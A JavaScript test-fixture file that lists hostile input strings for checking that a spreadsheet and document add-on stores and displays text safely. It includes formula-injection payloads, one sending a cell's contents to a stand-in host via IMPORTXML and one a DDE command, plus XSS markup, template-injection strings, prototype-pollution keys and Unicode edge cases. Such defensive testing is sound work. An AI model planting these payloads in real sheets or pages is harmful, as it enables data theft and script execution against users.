// Texts that have broken other programs: each has to be stored and shown exactly as typed, and executed
// nowhere. One list for the Sheet, the sidebar and the Doc.

/** https://owasp.org/www-community/attacks/CSV_Injection */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example","Click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",B3),"//a")',
  '+1',
  '-2',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '"=1+1"',
  '%0A=1+1',
  "=cmd|'/c calc'!A0",
];

const APOSTROPHES = ["'twas the night", "''", "'=1+1", '‘quoted’'];

const LIKE_VALUES = [
  ...['1/2', '007', '1e5', '50%', '0x1F', '1,5', '-0', 'TRUE', 'false', '2026-09-14'],
  ...[
    '9/14/2026',
    '10:30',
    '#REF!',
    '#N/A',
    'NaN',
    'null',
    'undefined',
    '$5',
    '12345678901234567890',
  ],
];

const MARKUP = [
  '<script>window.pwned=1</script>',
  '</script><script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '"><svg onload=window.pwned=1>',
  "');window.pwned=1;('",
  'javascript:window.pwned=1',
  '&lt;b&gt; &amp; &#x41;',
  '<!-- comment -->',
  '{"a":1}',
  '\\u003cscript>',
];

const TEMPLATES = [
  '{{x}}',
  '{name} {coach}',
  '${name}',
  '<?= 1 ?>',
  '<?!= x ?>',
  '$& $1 $`',
  '%s %d',
];

const SCRIPTS_OF_THE_WORLD = [
  ...[
    'שלום, מה שלומך?',
    'مرحبا بكم',
    '\u202Eabc\u202C',
    '\u2066abc\u2069',
    'a\u200Bb\u200Dc\uFEFFd',
  ],
  ...[
    '👩🏽‍🏫👨‍👩‍👧‍👦🇺🇸',
    'e\u0301 cafe\u0301',
    '\u0301 starts with an accent',
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A',
    '北京学校',
    'İstanbul ß ﬁ',
  ],
];

const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype'];

const SPACES = [' spaced ', 'two\nlines', 'three\n\n\nlines', 'tab\tinside', 'no\u00A0break'];

const ANYWHERE = [
  ...FORMULAS,
  ...APOSTROPHES,
  ...LIKE_VALUES,
  ...MARKUP,
  ...TEMPLATES,
  ...SCRIPTS_OF_THE_WORLD,
  ...PROTOTYPE_KEYS,
];

/** Short enough for a name. */
export const HOSTILE_NAMES = ANYWHERE.filter((text) => text.length <= 80);

/** What a paragraph takes: at most 2,000 characters. */
export const HOSTILE_TEXTS = [...ANYWHERE, ...SPACES, 'äö🎉 '.repeat(400), '='.repeat(2_000)];

/** More than a cell of a Sheet holds (50,000 characters); only "Other" boxes take it. */
export const ENORMOUS = `=${'lang 🎉 '.repeat(7_000)}`;
